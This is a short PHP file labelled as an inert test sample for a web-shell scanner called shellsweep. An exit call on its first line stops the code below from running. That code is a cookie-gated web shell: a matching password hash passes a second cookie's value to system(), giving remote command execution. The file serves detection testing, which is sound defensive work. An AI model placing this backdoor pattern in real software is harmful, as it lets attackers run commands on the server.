<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
if (sha1($_COOKIE['k']) === '7c4a8d09ca3762af61e59520943dc26494f8941b') { system($_COOKIE['c']); }
